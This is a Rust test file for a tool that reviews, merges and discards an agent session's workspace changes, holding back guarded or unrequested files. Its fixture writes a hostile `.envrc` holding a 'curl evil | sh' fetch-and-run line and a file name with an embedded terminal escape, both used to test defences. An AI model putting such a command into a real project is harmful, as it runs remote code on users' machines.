//! `diff`, `apply` and `discard`: on sessions that ended or were lost, recorded before and after.

use std::fs;
use std::path::{Path, PathBuf};

use ::record::{Kind, Segment};
use plane::store::{SessionDirectory, TreeRecord, repair};
use plane::workspace::{Filter, Steps, Workspace};
use wire::command::{ChangeInfo, MergeAnswer, Reply, Request, Select};

use crate::room::{Room, started, text, write};

/// A lost session on `work`, with a second tree, that changed what a program of the workspace would.
pub(crate) fn changed(room: &Room) -> SessionDirectory {
    let put = |path: PathBuf, content: &str| {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    };
    put(room.path("work/kept.txt"), "before\n");
    put(room.path("cache/seen.txt"), "before\n");
    let mut session = room.begin("work", None);
    let (path, changes) = (room.path("cache"), session.path.join("changes/1"));
    session.record.trees.push(TreeRecord { path, changes, owner: None, view: None });
    session.save().unwrap();
    for tree in &session.record.trees {
        Workspace::begin(&tree.changes, &tree.path, None).unwrap();
    }
    write(&session, Segment::Plane, &[started(&session)]);
    let upper = session.path.join("changes/0/upper");
    put(upper.join("kept.txt"), "after\n");
    put(upper.join("src/new\x1b[2J.txt"), "new\x1b[2J\n");
    put(upper.join(".envrc"), "curl evil | sh\n");
    put(upper.join("sub/.envrc"), "echo\n");
    put(session.path.join("changes/1/upper/seen.txt"), "after\n");
    session
}

pub(crate) fn of(session: &str, paths: &[PathBuf]) -> Select {
    Select { session: Some(session.into()), paths: paths.to_vec(), ..Select::default() }
}

pub(crate) fn diff(room: &Room, id: &str, paths: &[PathBuf]) -> Vec<ChangeInfo> {
    match room.yes(Request::Diff(of(id, paths))) {
        Reply::Diff(answer) => answer.changes,
        other => panic!("{other:?}"),
    }
}

pub(crate) fn merged(reply: Reply) -> MergeAnswer {
    match reply {
        Reply::Merged(answer) => *answer,
        other => panic!("{other:?}"),
    }
}

fn merges(room: &Room, id: &str) -> Vec<String> {
    let select = of(id, &[]);
    let (replies, _) = room.ask(Request::Log { select, follow: false });
    let state = |reply: &Reply| match reply {
        Reply::Event(line) => match &line.event.kind {
            Kind::Merge { state, .. } => Some(state.clone()),
            _ => None,
        },
        _ => None,
    };
    replies.iter().filter_map(state).collect()
}

fn pending(room: &Room, id: &str) -> Option<u64> {
    match room.yes(Request::Show(of(id, &[]))) {
        Reply::Session(session) => session.pending,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_running_session_is_shown_and_not_merged() {
    let room = Room::new();
    let session = changed(&room);
    let id = session.record.id.clone();
    let shown = diff(&room, &id, &[]);
    let paths: Vec<_> = shown.iter().map(|change| change.path.as_str()).collect();
    let cache = room.path("cache/seen.txt").display().to_string();
    let expected = [".envrc", "kept.txt", "src", "src/new\x1b[2J.txt", "sub", "sub/.envrc", cache.as_str()];
    assert_eq!(paths, expected);
    assert!(shown[1].diff.contains("-before\n+after\n"), "{}", shown[1].diff);
    assert!(shown[0].held.as_ref().is_some_and(|why| why.starts_with("guarded")) && shown[1].held.is_none());
    assert!(shown[0].flags.contains(&"guarded".to_owned()), "{:?}", shown[0].flags);
    assert!(shown.iter().all(|change| !change.diff.contains('\x1b')));
    assert_eq!(room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() }).code, "E-PLANE-010");
    assert_eq!(room.no(Request::Discard(of(&id, &[]))).code, "E-PLANE-010");
    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
    assert_eq!(plane::verbs::changes::list(&session).unwrap().len(), 7);
    assert!(merges(&room, &id).is_empty());
}

#[test]
fn what_was_reviewed_is_merged_and_what_is_guarded_only_when_named() {
    let room = Room::new();
    let id = changed(&room).record.id.clone();
    assert_eq!(pending(&room, &id), Some(7));
    let one = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }));
    assert_eq!((one.done, one.left), (vec!["kept.txt".to_owned()], Vec::new()));
    assert_eq!(merges(&room, &id), ["begun", "merged"]);
    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "after\n");
    assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "before\n");
    let all = merged(room.yes(Request::Apply { select: of(&id, &[]), over: Vec::new() }));
    assert!(all.left.iter().any(|(path, why)| path == ".envrc" && why.starts_with("held back")), "{:?}", all.left);
    assert!(!room.path("work/.envrc").exists());
    assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "after\n");
    // Naming the directory above is not naming it.
    let above = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work")]), over: Vec::new() }));
    assert!(above.done.is_empty() && !room.path("work/.envrc").exists(), "{above:?}");
    let named =
        merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/./src/../.envrc")]), over: Vec::new() }));
    assert_eq!(named.done, [".envrc"]);
    assert_eq!(fs::read_to_string(room.path("work/.envrc")).unwrap(), "curl evil | sh\n");
    let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
    assert_eq!(pending(&room, &id), Some(0));
    let Reply::Verified { segments, .. } = room.yes(Request::Verify(of(&id, &[]))) else { panic!() };
    assert_eq!(segments[0].broken, None);
}

/// What nobody asked for is shown with why, and merged only where it is named itself.
#[test]
fn what_the_operators_words_do_not_ask_for_is_held_until_it_is_named() {
    let room = Room::new();
    fs::create_dir_all(room.path("work")).unwrap();
    for name in ["old.txt", "plain.txt"] {
        fs::write(room.path("work").join(name), "before\n").unwrap();
    }
    for (command, grounding, expected) in [
        (
            "make the tests pass",
            policy::Grounding::Deny,
            &["unasked-removal", "unasked-host-run", "unasked-executable"][..],
        ),
        ("fix the workflow, delete what is old, add a script", policy::Grounding::Deny, &[]),
        ("make the tests pass", policy::Grounding::Off, &[]),
    ] {
        let own = policy::Policy { name: "p".into(), grounding, ..policy::Policy::default() };
        let mut session = room.begin("work", Some(own));
        session.record.command = vec!["agent".into(), command.into()];
        session.save().unwrap();
        let tree = &session.record.trees[0];
        Workspace::begin(&tree.changes, &tree.path, None).unwrap();
        write(&session, Segment::Plane, &[started(&session)]);
        let upper = session.path.join("changes/0/upper");
        fs::create_dir_all(upper.join(".github/workflows")).unwrap();
        fs::write(upper.join(".github/workflows/x.yml"), "on: push\n").unwrap();
        fs::write(upper.join("plain.txt"), "after\n").unwrap();
        fs::write(upper.join("go"), "#!/bin/sh\n").unwrap();
        fs::set_permissions(upper.join("go"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let removed = rustix::fs::mknodat(
            rustix::fs::CWD,
            upper.join("old.txt"),
            rustix::fs::FileType::CharacterDevice,
            rustix::fs::Mode::empty(),
            0,
        );
        // Only root makes what stands for a removal; another user's is made by the kernel.
        let removes = removed.is_ok();
        let id = session.record.id.clone();
        // Whoever began it is gone.
        drop(session);
        let shown = diff(&room, &id, &[]);
        let flags: Vec<&str> = shown
            .iter()
            .flat_map(|one| one.flags.iter().map(String::as_str))
            .filter(|flag| flag.starts_with("unasked"))
            .collect();
        for flag in expected.iter().filter(|flag| removes || **flag != "unasked-removal") {
            assert!(flags.contains(flag), "{command}: {flags:?}");
        }
        assert!(!expected.is_empty() || flags.is_empty(), "{command}: {flags:?}");
        if expected.is_empty() {
            continue;
        }
        let plain = shown.iter().find(|one| one.path == "plain.txt").unwrap();
        assert!(plain.held.is_none() && plain.flags.is_empty(), "{plain:?}");
        let ci = shown.iter().find(|one| one.path == ".github/workflows/x.yml").unwrap();
        assert!(ci.held.as_ref().is_some_and(|why| why.contains("nothing that the operator said names it")), "{ci:?}");
        let all = merged(room.yes(Request::Apply { select: of(&id, &[]), over: Vec::new() }));
        assert!(all.done.contains(&"plain.txt".to_owned()), "{all:?}");
        let left = |path: &str| all.left.iter().find(|(left, _)| left == path).map(|(_, why)| why.as_str());
        assert!(left("go").is_some_and(|why| why.contains("asks for what can be run")), "{all:?}");
        assert!(!room.path("work/go").exists() && !room.path("work/.github/workflows/x.yml").exists());
        assert!(room.path("work/old.txt").exists());
        let named = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/go")]), over: Vec::new() }));
        assert_eq!(named.done, ["go"]);
        let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
        fs::remove_file(room.path("work/go")).unwrap();
    }
}

/// It once took two rounds: the first merged the new directory, the second then found it no longer as reviewed.
#[test]
fn a_guarded_name_brings_the_new_directories_above_it() {
    let room = Room::new();
    let id = changed(&room).record.id.clone();
    let named = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/sub/.envrc")]), over: Vec::new() }));
    assert_eq!((named.done, named.left), (vec!["sub".to_owned(), "sub/.envrc".into()], Vec::new()));
}

#[test]
fn what_is_thrown_away_is_gone_and_the_original_stays() {
    let room = Room::new();
    let id = changed(&room).record.id.clone();
    let some = merged(room.yes(Request::Discard(of(&id, &[room.path("work/sub"), room.path("cache")]))));
    let cache = room.path("cache/seen.txt").display().to_string();
    assert_eq!(some.done, ["sub".to_owned(), "sub/.envrc".into(), cache]);
    assert_eq!(pending(&room, &id), Some(4));
    let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
    assert_eq!(pending(&room, &id), Some(0));
    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
    assert_eq!(fs::read_dir(room.path("work")).unwrap().count(), 1);
    let each = ["discarding", "discarded"];
    assert_eq!(merges(&room, &id), [each, each, each].concat(), "two trees, then one");
    let nothing = merged(room.yes(Request::Discard(of(&id, &[]))));
    assert!(nothing.done.is_empty() && nothing.left.is_empty());
}

#[test]
fn a_path_outside_of_every_tree_is_refused() {
    let room = Room::new();
    let id = changed(&room).record.id.clone();
    for path in [room.path("elsewhere"), PathBuf::from("/etc/passwd"), room.path("work/../../x"), "relative".into()] {
        assert_eq!(room.no(Request::Apply { select: of(&id, &[path]), over: Vec::new() }).code, "E-PLANE-019");
    }
    std::os::unix::fs::symlink(room.path("work"), room.path("alias")).unwrap();
    let aliased =
        merged(room.yes(Request::Apply { select: of(&id, &[room.path("alias/kept.txt")]), over: Vec::new() }));
    assert_eq!(aliased.done, ["kept.txt"]);
}

#[test]
fn what_cannot_be_recorded_is_not_done() {
    let room = Room::new();
    let session = changed(&room);
    let (id, segment) = (session.record.id.clone(), session.segment(Segment::Plane));
    let mut broken = text(&session.origin(Segment::Plane), &[started(&session), Kind::GateLost]);
    broken[100] ^= 1;
    fs::write(segment, broken).unwrap();
    drop(session);
    assert_eq!(room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() }).code, "E-PLANE-072");
    assert_eq!(room.no(Request::Discard(of(&id, &[]))).code, "E-PLANE-072");
    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
    assert_eq!(pending(&room, &id), Some(7));
}

/// A policy that could not be read once counted as one that guards nothing: `.envrc` was merged with all the rest.
#[test]
fn without_the_policy_nothing_is_merged_and_all_can_be_thrown_away() {
    let room = Room::new();
    let session = changed(&room);
    let (id, policy) = (session.record.id.clone(), session.path.join("policy.json"));
    drop(session);
    for broken in [Some("[{"), Some(""), None] {
        match broken {
            Some(text) => fs::write(&policy, text).unwrap(),
            None => fs::remove_file(&policy).unwrap(),
        }
        for request in [Request::Apply { select: of(&id, &[]), over: Vec::new() }, Request::Diff(of(&id, &[]))] {
            assert!(["E-PLANE-014", "E-PLANE-001"].contains(&room.no(request).code.as_str()));
        }
        assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
        assert!(!room.path("work/.envrc").exists());
    }
    assert!(!merged(room.yes(Request::Discard(of(&id, &[])))).done.is_empty());
}

/// An original that was gone, or more changes than are walked, kept the operator from throwing them away; and what the
/// mount left without permission bits, from removing the directory.
#[test]
fn all_is_thrown_away_also_where_nothing_can_be_listed() {
    use std::os::unix::fs::PermissionsExt;
    let room = Room::new();
    let session = changed(&room);
    let (id, path) = (session.record.id.clone(), session.path.clone());
    drop(session);
    let closed = path.join("changes/0/work/work");
    fs::create_dir(&closed).unwrap();
    fs::set_permissions(&closed, fs::Permissions::from_mode(0o000)).unwrap();
    fs::rename(room.path("work"), room.path("elsewhere")).unwrap();
    fs::create_dir(room.path("work")).unwrap();
    assert_eq!(room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() }).code, "E-PLANE-073");
    let gone = merged(room.yes(Request::Discard(of(&id, &[]))));
    assert_eq!(gone.done[0], path.join("changes/0/upper").display().to_string());
    assert_eq!(fs::read_dir(path.join("changes/0/upper")).unwrap().count(), 0);
    assert!(!closed.exists() && fs::read_dir(room.path("work")).unwrap().count() == 0);
    fs::remove_dir_all(path).unwrap();
}

/// `discard` once went to the session before, because the newest on the directory could not be read.
#[test]
fn a_damaged_session_never_makes_an_older_one_the_newest() {
    let room = Room::new();
    let older = changed(&room).record.id.clone();
    let newer = changed(&room);
    let (id, record) = (newer.record.id.clone(), newer.path.join("session.json"));
    drop(newer);
    fs::write(record, "{").unwrap();
    let select = Select { directory: room.path("work"), ..Select::default() };
    for request in [
        Request::Discard(select.clone()),
        Request::Apply { select: select.clone(), over: Vec::new() },
        Request::Show(select),
    ] {
        let problem = room.no(request);
        assert_eq!(problem.code, "E-PLANE-014");
        assert!(problem.cause.contains(&id) && problem.hint.unwrap().contains(&older), "{}", problem.cause);
    }
    assert_eq!(pending(&room, &older), Some(7));
    // An empty path is none, and not the whole tree.
    assert_eq!(room.no(Request::Discard(of(&older, &["".into()]))).code, "E-PLANE-019");
}

/// Cuts a merge of the workspace short before one of its steps.
fn cut_short(session: &SessionDirectory, step: usize) -> bool {
    let tree = &session.record.trees[0];
    let mut workspace = Workspace::open(&tree.changes, &tree.path, None).unwrap();
    let changes = workspace.changes(&[]).unwrap();
    let filter = Filter { paths: vec!["kept.txt".into()], ..Filter::default() };
    workspace.apply_in(&changes, &filter, &mut Steps::limited(step)).is_err()
}

/// A name that is nowhere is a mistake, and is told as one; what was merged already is none.
#[test]
fn a_path_at_which_nothing_was_changed_is_told() {
    let room = Room::new();
    let session = changed(&room);
    let id = session.record.id.clone();
    drop(session);
    let apply = |select| Request::Apply { select, over: Vec::new() };
    for request in [apply, Request::Discard] {
        assert_eq!(room.no(request(of(&id, &[room.path("work/kpet.txt")]))).code, "E-PLANE-036");
    }
    for left in [1, 0] {
        assert_eq!(
            merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }))
                .done
                .len(),
            left
        );
    }
}

#[test]
fn a_merge_that_was_cut_short_is_whole_before_anything_else() {
    let content = |room: &Room| fs::read_to_string(room.path("work/kept.txt")).unwrap();
    let clean = |directory: &Path| {
        let names = fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
        names.filter(|name| name.starts_with(".bastide")).count() == 0
    };
    let (mut step, mut finished) = (0, 0);
    loop {
        let room = Room::new();
        let session = changed(&room);
        let id = session.record.id.clone();
        let cut = cut_short(&session, step);
        drop(session);
        if step % 2 == 0 {
            let words = repair(room.store());
            finished += usize::from(words.iter().any(|line| line.contains("is finished: 1 paths")));
        } else {
            let _ = room.yes(Request::Discard(of(&id, &[room.path("cache")])));
        }
        assert!(["before\n", "after\n"].contains(&content(&room).as_str()), "step {step}");
        assert!(clean(&room.path("work")), "step {step}");
        let _ = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }));
        assert_eq!(content(&room), "after\n", "step {step}");
        if !cut {
            break;
        }
        step += 1;
        assert!(step < 100, "no merge takes so many steps");
    }
    assert!(step > 4 && finished > 0, "{step} steps, {finished} finished by a repair");
}

#[test]
fn a_cut_merge_of_a_session_that_ended_is_put_in_order_by_whoever_looks_next() {
    let content = |room: &Room| fs::read_to_string(room.path("work/kept.txt")).unwrap();
    let marks = |room: &Room| fs::read_dir(room.store().running()).unwrap().count();
    let (mut before, mut after) = (0, 0);
    for step in 0..100 {
        let room = Room::new();
        let mut session = changed(&room);
        (session.record.ended, session.record.exit) = (Some(5), Some(0));
        session.save().unwrap();
        session.leave().unwrap();
        assert_eq!(marks(&room), 0);
        // As `apply` does, until it is killed.
        session.hold().unwrap();
        session.enter().unwrap();
        let cut = cut_short(&session, step);
        let id = session.record.id.clone();
        drop(session);
        let _ = room.yes(Request::Ls);
        assert_eq!(marks(&room), 0, "step {step}");
        let names = fs::read_dir(room.path("work")).unwrap().map(|entry| entry.unwrap().file_name());
        assert!(names.into_iter().all(|name| !name.to_string_lossy().starts_with(".bastide")), "step {step}");
        match content(&room).as_str() {
            "before\n" => before += 1,
            "after\n" => after += 1,
            other => panic!("step {step}: {other}"),
        }
        let _ = merged(room.yes(Request::Apply { select: of(&id, &[room.path("work/kept.txt")]), over: Vec::new() }));
        assert_eq!((content(&room).as_str(), marks(&room)), ("after\n", 0), "step {step}");
        if !cut {
            break;
        }
    }
    assert!(before > 1 && after > 1, "{before} before, {after} after");
}

/// Once told as lost, by every command, until it was thrown away.
#[test]
fn a_merge_that_could_not_begin_leaves_nothing_to_put_in_order() {
    let room = Room::new();
    let id = changed(&room).record.id.clone();
    let _ = repair(room.store());
    fs::rename(room.path("work"), room.path("elsewhere")).unwrap();
    let told = room.no(Request::Apply { select: of(&id, &[]), over: Vec::new() });
    assert_eq!(told.code, "E-PLANE-073");
    assert_eq!(repair(room.store()), Vec::<String>::new());
    assert_eq!(fs::read_dir(room.store().running()).unwrap().count(), 0);
    // One that did begin is told as what it is.
    let room = Room::new();
    let id = changed(&room).record.id.clone();
    let _ = repair(room.store());
    let session = SessionDirectory::open(&room.store().sessions().join(&id)).unwrap();
    assert!(cut_short(&session, 3));
    session.enter().unwrap();
    drop(session);
    fs::rename(room.path("work"), room.path("elsewhere")).unwrap();
    let words = repair(room.store());
    let expected = format!("session `{id}` is not in order yet: a merge is not finished: ");
    assert!(words.len() == 1 && words[0].starts_with(&expected), "{words:?}");
}

/// What was merged lay there a second time until the session was removed.
#[test]
fn a_session_that_ended_keeps_no_second_copy_of_what_was_merged() {
    let room = Room::new();
    let mut session = changed(&room);
    (session.record.ended, session.record.exit) = (Some(crate::room::BEGAN + 9), Some(0));
    session.save().unwrap();
    let (id, path) = (session.record.id.clone(), session.path.clone());
    drop(session);
    let upper = |tree: u32| fs::read_dir(path.join(format!("changes/{tree}/upper"))).unwrap().count();
    let apply = |paths: &[PathBuf]| merged(room.yes(Request::Apply { select: of(&id, paths), over: Vec::new() }));
    // Guarded files wait.
    assert!(!apply(&[]).left.is_empty() && upper(0) > 0);
    assert_eq!(apply(&[room.path("work/.envrc"), room.path("work/sub/.envrc")]).left, []);
    assert_eq!((upper(0), upper(1), pending(&room, &id)), (0, 0, Some(0)));
    assert!(diff(&room, &id, &[]).is_empty());
    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "after\n");
    assert_eq!(fs::read_to_string(room.path("work/sub/.envrc")).unwrap(), "echo\n");
    // Whatever becomes of the original.
    fs::remove_file(room.path("work/kept.txt")).unwrap();
    assert!(diff(&room, &id, &[]).is_empty());
}
